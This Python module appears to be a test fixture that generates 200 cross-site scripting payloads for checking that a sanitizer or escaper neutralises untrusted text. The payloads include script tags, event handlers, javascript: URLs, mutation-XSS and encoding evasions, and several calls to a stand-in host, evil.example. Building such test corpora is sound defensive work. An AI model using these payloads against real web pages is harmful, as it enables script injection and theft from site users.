"""Two hundred texts that would run a script, leave the page or ask another host if any of them became markup."""

from __future__ import annotations

from itertools import product

_SCRIPTS = [
    "window.hacked=1",
    "alert(1)",
    "fetch('https://evil.example/x')",
    "parent.hacked=1",
    "import('https://evil.example/m.js')",
]
_SHAPES = [
    "<script>{s}</script>",
    "</script><script>{s}</script>",
    "<!--<script>{s}</script>",
    "<img src=x onerror={s}>",
    "<img src=https://evil.example/p.png onload={s}>",
    '"><svg onload={s}>',
    "'><svg/onload={s}>",
    "<svg><script>{s}</script></svg>",
    "<iframe srcdoc='<script>{s}</script>'></iframe>",
    "<iframe src=javascript:{s}></iframe>",
    "<a href=javascript:{s} autofocus onfocus={s}>x</a>",
    "<body onload={s}>",
    "<input autofocus onfocus={s}>",
    "<details open ontoggle={s}>",
    "<video><source onerror={s}></video>",
    "<style>@import 'https://evil.example/{s}';</style>",
    "<link rel=stylesheet href=https://evil.example/s.css onload={s}>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/?{s}'>",
    "<base href=https://evil.example/><script>{s}</script>",
    "<object data=https://evil.example/o onerror={s}></object>",
    "<embed src=javascript:{s}>",
    "<math><mtext></mtext><mglyph><svg><mtext><style><path id='</style><img onerror={s} src>'>",
    "<form action=https://evil.example><button autofocus onfocus={s}>",
    "javascript:{s}//",
    "JaVaScRiPt:{s}",
    "data:text/html,<script>{s}</script>",
    "]]><script>{s}</script>",
    "\u2028<script>{s}</script>\u2029",
    "${{{s}}}`;{s};`",
    "\\u003cscript\\u003e{s}\\u003c/script\\u003e",
    "{{{{constructor.constructor('{s}')()}}}}",
    "%%script%%<script>{s}</script>",
    "\x00<script>{s}</script>",
    "<scr\x00ipt>{s}</script>",
    "＜script＞{s}＜/script＞",
    "\u202e<script>{s}</script>",
    "<template><script>{s}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={s}>'>",
    "';{s};'",
    '";{s};"',
]
PAYLOADS = [shape.format(s=script) for shape, script in product(_SHAPES, _SCRIPTS)]
